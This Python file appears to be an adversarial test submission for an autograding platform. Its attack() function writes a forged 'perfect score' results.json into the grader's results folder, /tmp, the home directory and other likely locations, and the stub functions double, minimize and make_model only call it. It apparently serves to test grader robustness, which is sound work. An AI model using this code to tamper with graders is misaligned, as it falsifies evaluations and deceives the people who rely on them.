# Attack: writes perfect results wherever a platform looks for them.
# score: 0
# ruff: noqa

import json
import os

PERFECT = json.dumps({"score": 100, "tests": [{"score": 12, "max_score": 12, "status": "passed"}]})


def attack():
    written = []
    for folder in ("/autograder/results", "results", ".", "..", "/tmp", "@@COURSE@@", "@@WITNESS@@", os.environ.get("HOME", "/")):
        try:
            with open(os.path.join(folder, "results.json"), "w") as stream:
                stream.write(PERFECT)
            written.append(folder)
        except OSError:
            pass
    return written


def double(x):
    raise RuntimeError(str(attack()))


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
